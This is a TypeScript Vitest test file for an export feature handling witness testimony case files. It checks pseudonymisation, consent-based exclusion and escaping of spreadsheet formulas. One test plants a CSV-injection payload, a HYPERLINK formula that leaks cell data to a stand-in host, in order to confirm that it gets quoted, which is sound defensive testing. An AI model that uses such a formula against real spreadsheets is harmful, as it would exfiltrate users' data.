import { describe, expect, it } from 'vitest';
import { packageContent } from '@shared/package/content';
import { DEFAULT_EXPORT_OPTIONS, planExport } from '@shared/package/export-plan';
import { sampleCaseFile, SECRET } from '../../../fixtures/print/case-file';

// A recipient on record that no testimony's consent names by id: only the names typed before recipients were records decide.
const RECIPIENT_ID = '7d3f0c2a-9b1e-4f6a-8c5d-2e4b6a8c0d1f';

const meta = { recipient: 'IIIM', exportedAt: '2026-11-22', organisation: 'Test Org' };
const all = (files: Array<{ text: string }>): string => files.map((f) => f.text).join('\n');

describe('package content', () => {
  it('pseudonymises witnesses and leaves contacts and internal notes out by default', () => {
    const file = sampleCaseFile();
    file.testimonies[0]!.content = {
      type: 'doc',
      content: [{ type: 'paragraph', content: [{ type: 'text', text: 'He was held in the basement for months.' }] }],
    };
    const out = packageContent(
      [file],
      planExport([file], { recipientId: RECIPIENT_ID, recipientName: 'IIIM', ...DEFAULT_EXPORT_OPTIONS }),
      meta,
    );
    const text = all(out);
    expect(text).toContain('He was held in the basement');
    expect(text).toContain(SECRET.pseudonym);
    for (const s of [SECRET.witnessName, SECRET.witnessNameAr, SECRET.phone, SECRET.safetyNote, SECRET.internalNote])
      expect(text, s).not.toContain(s);
    expect(out.map((f) => f.path)).toEqual([
      'data/records.json',
      'data/persons.csv',
      'data/events.csv',
      'data/timelines.csv',
      'data/evidence.csv',
      'data/index.html',
      'data/records.schema.json',
    ]);
    const schema = JSON.parse(out.find((f) => f.path === 'data/records.schema.json')!.text) as {
      items: { properties: Record<string, unknown> };
    };
    expect(Object.keys(schema.items.properties)).toEqual([
      'case',
      'subject',
      'events',
      'ties',
      'testimonies',
      'documents',
      'contacts',
      'places',
    ]);
    expect(JSON.parse(out.find((f) => f.path === 'data/records.json')!.text)[0].case.reference).toBe('ATH-2026-00042');
    expect(out.find((f) => f.path === 'data/evidence.csv')!.text).toContain('a'.repeat(64));
    expect(out.find((f) => f.path === 'data/index.html')!.text).not.toMatch(/<script/i);
  });

  it('a testimony whose consent excludes the recipient never appears, not even its text', () => {
    const file = sampleCaseFile();
    file.testimonies[0]!.content = {
      type: 'doc',
      content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Words only the IIIM may read.' }] }],
    };
    const plan = planExport([file], {
      recipientId: RECIPIENT_ID,
      recipientName: 'A Journalist',
      ...DEFAULT_EXPORT_OPTIONS,
    });
    const text = all(packageContent([file], plan, { ...meta, recipient: 'A Journalist' }));
    expect(text).not.toContain('Words only the IIIM may read.');
    expect(text).not.toContain(SECRET.pseudonym);
  });

  it('never hands a spreadsheet a formula: cells starting with = + - @ are quoted', () => {
    const file = sampleCaseFile();
    file.subject.nameLatin = '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")';
    file.subject.nameAr = '@SUM(1+1)';
    const csv = packageContent(
      [file],
      planExport([file], { recipientId: RECIPIENT_ID, recipientName: 'IIIM', ...DEFAULT_EXPORT_OPTIONS }),
      meta,
    ).find((f) => f.path === 'data/persons.csv')!.text;
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).toContain(`'@SUM(1+1)`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
